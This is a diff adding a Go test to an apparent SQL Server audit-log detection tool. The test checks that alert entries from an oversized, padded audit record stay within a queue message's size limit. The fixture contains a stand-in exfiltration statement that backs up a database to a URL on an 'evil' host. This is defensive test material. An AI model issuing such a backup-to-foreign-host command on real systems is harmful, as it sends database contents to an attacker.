@@ -13,6 +13,7 @@ import (
 	"github.com/Azure/azure-sdk-for-go/sdk/data/aztables"
 	"github.com/xelwatch/xelwatch/detect"
 	"github.com/xelwatch/xelwatch/handler/queuemsg"
+	"github.com/xelwatch/xelwatch/xel/audit"
 )
 
 func TestUndispatchedFilter(t *testing.T) {
@@ -249,5 +250,33 @@ func TestRecordPendingEmptyID(t *testing.T) {
 				t.Fatalf("empty id: %v, want an error", err)
 			}
 		})
+	}
+}
+
+// TestOutboxEntryOfPaddedStatement: the outbox entries of the findings of
+// a 600,000-character padded backup, worst-case escaped fields included,
+// stay within a queue message (64 KiB), far below an entity.
+func TestOutboxEntryOfPaddedStatement(t *testing.T) {
+	e, err := detect.New(detect.DefaultConfig(), detect.NewMemoryState())
+	if err != nil {
+		t.Fatal(err)
+	}
+	nasty := strings.Repeat("\x01<", 400)
+	rec := audit.Record{EventTime: time.Date(2026, 11, 21, 20, 0, 0, 0, time.UTC), ActionID: "BA", ClassType: "DB", Succeeded: true,
+		ServerPrincipalName: nasty, ServerInstanceName: nasty, DatabaseName: nasty, ClientIP: nasty, ApplicationName: nasty,
+		FileName: strings.Repeat(nasty, 4), Statement: "BACKUP DATABASE [db] TO URL = 'https://evil/" + nasty + "' /*" +
+			strings.Repeat("\x01", 600_000) + "*/ WITH COPY_ONLY"}
+	fs, err := e.Evaluate(context.Background(), &rec)
+	if err != nil || len(fs) < 3 {
+		t.Fatalf("%d findings, %v", len(fs), err)
+	}
+	for _, f := range fs {
+		ent, err := outboxEntity(f, edmTime(time.Now()))
+		if err != nil {
+			t.Fatal(err)
+		}
+		if len(ent.JSON) > 64<<10 {
+			t.Errorf("%s: outbox entry of %d bytes", f.Rule, len(ent.JSON))
+		}
 	}
 }
